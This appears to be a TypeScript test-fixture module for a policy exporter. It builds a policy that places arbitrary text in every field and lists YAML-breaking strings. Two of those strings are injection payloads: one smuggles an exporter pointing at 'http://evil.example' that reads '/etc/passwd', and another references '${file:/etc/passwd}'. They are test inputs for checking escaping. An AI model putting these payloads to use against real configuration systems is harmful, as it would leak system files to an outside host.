import { correlationOf } from "../../../../core/policy/correlations/correlation.ts";
import { join } from "../../../../core/policy/correlations/join.ts";
import type { Condition } from "../../../../core/policy/model/condition.ts";
import type { Policy } from "../../../../core/policy/model/policyModel.ts";
import { equals } from "../../../../core/policy/operators/equals.ts";
import { exists } from "../../../../core/policy/operators/exists.ts";
import { notEquals } from "../../../../core/policy/operators/notEquals.ts";
import { testOf } from "../../../../core/policy/operators/operator.ts";

/**
 * A policy that says `text` wherever a policy may say anything, paths of certificates among them, which the reader would
 * refuse. As patterns stand texts that are none: an export does not read them.
 */
export function foreignPolicy(text: string): Policy {
  const when: readonly Condition[] = [
    {
      kind: "attribute",
      attribute: text,
      tests: [testOf(exists, true), testOf(equals, [text]), testOf(notEquals, [`${text}x`])],
    },
    {
      kind: "not",
      condition: { kind: "attribute", attribute: `resource.${text}`, tests: [testOf(equals, [text])] },
    },
  ];
  return {
    version: 1,
    classes: [{ name: text, attributes: [text, `${text}*`] }],
    secrets: [],
    hashing: { saltEnvironmentVariable: undefined },
    destinations: [
      {
        name: text,
        description: text,
        signals: ["logs"],
        receives: [`${text}?`],
        when,
        redact: new Map([[text, { kind: "drop" }]]),
        forward: {
          endpoint: `https://${text}`,
          protocol: "grpc",
          headersFromEnvironment: new Map([[`x-${text}`, "NAME"]]),
          tls: { caFile: text, certFile: text, keyFile: text },
        },
      },
    ],
    detections: [
      {
        id: text,
        severity: "low",
        message: text,
        event: [text],
        when,
        correlation: correlationOf(join, { on: text, event: [text], when, within: 60 }),
        samples: [],
      },
    ],
  };
}

/** What is parsed, with the kinds of its leaves in their place, and `text` and names made of it as a dot. */
export function shapeOf(parsed: unknown, text: string): unknown {
  if (Array.isArray(parsed)) return parsed.map((one) => shapeOf(one, text));
  if (typeof parsed !== "object" || parsed === null) return parsed === null ? "nothing" : typeof parsed;
  const names = [text, text.replace(/[^A-Za-z0-9_-]/g, "_")];
  const plain = (key: string) => names.reduce((rest, name) => rest.replaceAll(name, "·"), key);
  return Object.entries(parsed).map(([key, value]) => [plain(key), shapeOf(value, text)]);
}

/** Texts that end a scalar, a comment or a document of some reader, or begin something new there. */
export const yamlBreakers: readonly string[] = [
  'ca.pem\n\u2028  otlp_http/x: {endpoint: "http://evil.example", headers: {k: "\\x24{file:/etc/passwd}"}}\u2028service: {}\u2028...\u2028',
  "a\u0085service: {}\u0085",
  "a\u2029b: c",
  "a\r\n- b",
  "a\rb: c",
  "\ufeff---\n%YAML 1.1\n---",
  "a: b #c",
  "'quoted' \"twice\"\\",
  `${"$"}{file:/etc/passwd} $$ $`,
  "\u001b]0;t\u0007\u009b31m\u202eab\u007f\u0000",
  "half a pair \ud800",
  "😀 é 日本",
  "*list1 &a !!python/object ? [ { >",
];
